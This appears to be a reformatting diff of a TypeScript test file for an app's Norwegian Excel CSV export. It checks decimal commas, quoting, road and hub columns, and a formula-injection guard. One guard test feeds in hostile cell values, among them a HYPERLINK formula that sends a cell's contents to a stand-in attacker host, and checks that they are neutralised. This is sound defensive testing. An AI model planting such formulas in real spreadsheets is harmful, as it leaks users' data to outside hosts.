@@ -1,7 +1,14 @@
-// The Excel CSV: BOM, ';', decimal comma, CRLF, quoting, the formula guard, and the report CLI's numbers for the bundled data.
+// The Excel CSV: BOM, ';', decimal comma, CRLF, quoting, the formula guard, and the report CLI's numbers for the
+// bundled data.
 import { beforeAll, describe, expect, it } from 'vitest';
 import { loadBundledDataset } from '../../../src/app/defaultData';
-import { decimalComma, EXCEL_COLUMNS, formatExcelCsv, guardFormula, quoteField } from '../../../src/domain/exportCsvExcel';
+import {
+  decimalComma,
+  EXCEL_COLUMNS,
+  formatExcelCsv,
+  guardFormula,
+  quoteField,
+} from '../../../src/domain/exportCsvExcel';
 import { siteRows } from '../../../src/domain/siteRows';
 import { fitReasonText, fitWords } from '../../../src/i18n/fit';
 import { commaNumber, parseExcelCsv } from './csvParse';
@@ -40,10 +47,23 @@ describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
     expect(row?.[col('Avstand til knutepunkt fra kant (m)')]).toBe('1234,50');
     expect(row?.[col('Avstand til knutepunkt fra midtpunkt (m)')]).toBe('1300,00');
     // Jobs are whole: 10.5 → 11 (half away from zero, as the report), 20.49 → 20.
-    expect([col('Kapasitet ferdig utbygd lav'), col('Kapasitet ferdig utbygd middels'), col('Kapasitet ferdig utbygd høy')].map((i) => row?.[i])).toEqual(['11', '20', '40']);
+    expect(
+      [
+        col('Kapasitet ferdig utbygd lav'),
+        col('Kapasitet ferdig utbygd middels'),
+        col('Kapasitet ferdig utbygd høy'),
+      ].map((i) => row?.[i]),
+    ).toEqual(['11', '20', '40']);
     // A future site: no jobs today, so its new jobs are its capacity, printed the same way.
-    expect([col('Arbeidsplasser i dag'), col('Arbeidsplasser i dag, kilde')].map((i) => row?.[i])).toEqual(['0', 'fremtidig areal']);
-    expect([col('Nye arbeidsplasser lav'), col('Nye arbeidsplasser middels'), col('Nye arbeidsplasser høy')].map((i) => row?.[i])).toEqual(['11', '20', '40']);
+    expect([col('Arbeidsplasser i dag'), col('Arbeidsplasser i dag, kilde')].map((i) => row?.[i])).toEqual([
+      '0',
+      'fremtidig areal',
+    ]);
+    expect(
+      [col('Nye arbeidsplasser lav'), col('Nye arbeidsplasser middels'), col('Nye arbeidsplasser høy')].map(
+        (i) => row?.[i],
+      ),
+    ).toEqual(['11', '20', '40']);
     expect(row?.[col('Ledig fra år')]).toBe('2030');
     expect(row?.[col('Midtpunkt lengdegrad')]).toBe('10,412346');
     expect(row?.[col('Ledig')]).toBe('ja');
@@ -65,11 +85,17 @@ describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
   it('leaves the road columns empty without a loaded road layer, and fills them from one', () => {
     const [, none] = parseExcelCsv(text.slice(1));
     expect([none?.[col('Nærmeste hovedvei')], none?.[col('Avstand til hovedvei (m)')]]).toEqual(['', '']);
-    const withRoad = formatExcelCsv([handRow({ road: { distanceM: 1234.567, label: 'E18', kind: 'line', file: 'veg.geojson' } })], NB);
+    const withRoad = formatExcelCsv(
+      [handRow({ road: { distanceM: 1234.567, label: 'E18', kind: 'line', file: 'veg.geojson' } })],
+      NB,
+    );
     const [, row] = parseExcelCsv(withRoad.slice(1));
     expect([row?.[col('Nærmeste hovedvei')], row?.[col('Avstand til hovedvei (m)')]]).toEqual(['E18', '1234,57']);
     // A road without a name or number is named by its file.
-    const unnamed = formatExcelCsv([handRow({ road: { distanceM: 0, label: null, kind: 'point', file: 'kryss.geojson' } })], NB);
+    const unnamed = formatExcelCsv(
+      [handRow({ road: { distanceM: 0, label: null, kind: 'point', file: 'kryss.geojson' } })],
+      NB,
+    );
     expect(parseExcelCsv(unnamed.slice(1))[1]?.[col('Nærmeste hovedvei')]).toBe('(kryss.geojson)');
   });
 
@@ -78,7 +104,10 @@ describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
     expect(quoteField('Sjøgata "Nord"')).toBe('"Sjøgata ""Nord"""');
     expect(quoteField('to\nlinjer')).toBe('"to\nlinjer"');
     expect(quoteField('a,b')).toBe('a,b');
-    const noHub = formatExcelCsv([handRow({ hub: null, hubCentroidDistanceM: null, nearestByType: {}, region: null })], NB);
+    const noHub = formatExcelCsv(
+      [handRow({ hub: null, hubCentroidDistanceM: null, nearestByType: {}, region: null })],
+      NB,
+    );
     const [, row] = parseExcelCsv(noHub.slice(1));
     expect(row?.[col('Nærmeste knutepunkt')]).toBe('');
     expect(row?.[col('Avstand til togstasjon (m)')]).toBe('');
@@ -86,9 +115,13 @@ describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
   });
 
   it('neutralises text a spreadsheet would run as a formula, and only that', () => {
-    for (const evil of ['=1+1', '+47 999', '-2', '@SUM(A1)', '\t=1', '\r=1']) expect(guardFormula(evil)).toBe(`'${evil}`);
+    for (const evil of ['=1+1', '+47 999', '-2', '@SUM(A1)', '\t=1', '\r=1'])
+      expect(guardFormula(evil)).toBe(`'${evil}`);
     for (const fine of ['Asker', 'a=b', ' =1', '1-2', '']) expect(guardFormula(fine)).toBe(fine);
-    const hostile = formatExcelCsv([handRow({ id: '-S1', name: '=HYPERLINK("http://evil.example/?"&A1;"Klikk")', region: '@region' })], NB);
+    const hostile = formatExcelCsv(
+      [handRow({ id: '-S1', name: '=HYPERLINK("http://evil.example/?"&A1;"Klikk")', region: '@region' })],
+      NB,
+    );
     const [, row] = parseExcelCsv(hostile.slice(1));
     expect(row?.[col('ID')]).toBe("'-S1");
     expect(row?.[col('Navn')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"Klikk")`);
@@ -107,7 +140,9 @@ describe('formatExcelCsv on the bundled data: the same numbers as `npm run repor
     report = await reportJsonSites();
     // The app's path: the bundled files through the app's loader and engine, then the shared rows.
     const dataset = loadBundledDataset();
-    const [, ...body] = parseExcelCsv(formatExcelCsv(siteRows(dataset.sites, dataset.results, dataset.hubs), NB).slice(1));
+    const [, ...body] = parseExcelCsv(
+      formatExcelCsv(siteRows(dataset.sites, dataset.results, dataset.hubs), NB).slice(1),
+    );
     rows = body;
   });
 
@@ -128,8 +163,19 @@ describe('formatExcelCsv on the bundled data: the same numbers as `npm run repor
       expect(n('Avstand til knutepunkt fra midtpunkt (m)'), s.id).toBe(s.hub_centroid_distance_m);
       expect(n('Avstand til togstasjon (m)'), s.id).toBe(s.nearest_by_type.tog?.distance_m ?? null);
       expect(r[col('Nærmeste togstasjon')], s.id).toBe(s.nearest_by_type.tog?.hub_name ?? '');
-      expect([n('Kapasitet ferdig utbygd lav'), n('Kapasitet ferdig utbygd middels'), n('Kapasitet ferdig utbygd høy')], s.id).toEqual([s.jobs_low, s.jobs_mid, s.jobs_high]);
-      expect([n('Arbeidsplasser i dag'), n('Nye arbeidsplasser lav'), n('Nye arbeidsplasser middels'), n('Nye arbeidsplasser høy')], s.id).toEqual([s.jobs_today, s.new_jobs_low, s.new_jobs_mid, s.new_jobs_high]);
+      expect(
+        [n('Kapasitet ferdig utbygd lav'), n('Kapasitet ferdig utbygd middels'), n('Kapasitet ferdig utbygd høy')],
+        s.id,
+      ).toEqual([s.jobs_low, s.jobs_mid, s.jobs_high]);
+      expect(
+        [
+          n('Arbeidsplasser i dag'),
+          n('Nye arbeidsplasser lav'),
+          n('Nye arbeidsplasser middels'),
+          n('Nye arbeidsplasser høy'),
+        ],
+        s.id,
+      ).toEqual([s.jobs_today, s.new_jobs_low, s.new_jobs_mid, s.new_jobs_high]);
       expect(r[col('Tilgjengelighetsklasse')], s.id).toBe(s.abc_access);
       expect([n('Midtpunkt lengdegrad'), n('Midtpunkt breddegrad')], s.id).toEqual([s.centroid_lon, s.centroid_lat]);
     }
